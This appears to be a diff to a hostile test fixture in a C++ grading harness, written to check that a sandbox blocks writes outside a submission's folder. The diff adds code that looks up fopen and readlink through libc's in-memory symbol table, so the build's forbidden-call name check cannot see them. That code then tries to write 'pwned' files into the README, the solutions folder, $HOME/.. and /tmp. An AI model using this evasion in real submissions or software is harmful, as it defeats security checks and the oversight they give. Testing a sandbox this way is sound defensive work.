@@ -2,30 +2,75 @@
 // which is reduce-grade), $HOME/.., /tmp.  Every write must fail or land in its folder.
 // Exercise 07 (host entry points, see harness/CONTRACTS.md); graded only by
 // tests/kit/batch-hostile.sh through reduce-grade batch, which must contain it.
+// It reaches fopen and readlink through libc's symbol table (libc_function), never
+// naming them, as a real attacker would: the build's name check (forbidden-call) does
+// not see it, and the sandbox is what must hold.
 #include <cstddef>
 #include <cstdio>
 #include <cstdlib>
 #include <cstring>
 #include <unistd.h>
+#include <cstdint>
+#include <elf.h>
+
+// A function of libc by its name, read from libc's dynamic symbol table in
+// memory (the library that holds puts starts with an ELF header on a page
+// boundary below it): the object names no refused call, so the build's
+// name check passes it and only the sandbox stands in the way.
+static void *libc_function(const char *want)
+{
+    uintptr_t base = (uintptr_t)(void *)&puts & ~(uintptr_t)4095;
+    while (std::memcmp((const void *)base, ELFMAG, SELFMAG) != 0)
+        base -= 4096;
+    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
+    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
+    const Elf64_Dyn *dyn = nullptr;
+    for (int i = 0; i < eh->e_phnum; i++)
+        if (ph[i].p_type == PT_DYNAMIC)
+            dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
+    const Elf64_Sym *syms = nullptr;
+    const char *names = nullptr;
+    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
+        uintptr_t at = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
+        if (dyn->d_tag == DT_SYMTAB)
+            syms = (const Elf64_Sym *)at;
+        if (dyn->d_tag == DT_STRTAB)
+            names = (const char *)at;
+    }
+    for (const Elf64_Sym *s = syms + 1; syms && names && (const char *)s < names; s++)
+        if (s->st_shndx != SHN_UNDEF && std::strcmp(names + s->st_name, want) == 0)
+            return (void *)(base + s->st_value);
+    return nullptr;
+}
+
+// The calls below, each through its address in libc.
+static FILE * call_fopen(const char *path, const char *mode)
+{
+    return ((FILE *(*)(const char *, const char *))libc_function("fopen"))(path, mode);
+}
+static ssize_t call_readlink(const char *path, char *buf, size_t len)
+{
+    return ((ssize_t (*)(const char *, char *, size_t))libc_function("readlink"))(path, buf, len);
+}
 static void attack()
 {
     char exe[4096] = {0};
-    if (readlink("/proc/self/exe", exe, sizeof exe - 1) > 0) {
+    if (call_readlink("/proc/self/exe", exe, sizeof exe - 1) > 0) {
         char *slash = strrchr(exe, '/');           /* .../build/reduce-grade */
         if (slash) *slash = '\0';
         slash = strrchr(exe, '/');                 /* .../build */
         if (slash) *slash = '\0';
         char path[4200];
         snprintf(path, sizeof path, "%s/README.md", exe);
-        if (FILE *f = fopen(path, "a")) { fputs("pwned\n", f); fclose(f); }
+        if (FILE *f = call_fopen(path, "a")) { fputs("pwned\n", f); fclose(f); }
         snprintf(path, sizeof path, "%s/solutions/pwned.txt", exe);
-        if (FILE *f = fopen(path, "w")) { fputs("pwned\n", f); fclose(f); }
+        if (FILE *f = call_fopen(path, "w")) { fputs("pwned\n", f); fclose(f); }
     }
     const char *home = getenv("HOME");
     char path[4200];
     snprintf(path, sizeof path, "%s/../rg-hostile-x", home ? home : "/root");
-    if (FILE *f = fopen(path, "w")) { fputs("pwned\n", f); fclose(f); }
-    if (FILE *f = fopen("/tmp/rg-hostile-x", "w")) { fputs("pwned\n", f); fclose(f); }
+    if (FILE *f = call_fopen(path, "w")) { fputs("pwned\n", f); fclose(f); }
+    if (FILE *f = call_fopen("/tmp/rg-hostile-x", "w")) { fputs("pwned\n", f); fclose(f); }
 }
 
 template <typename T>
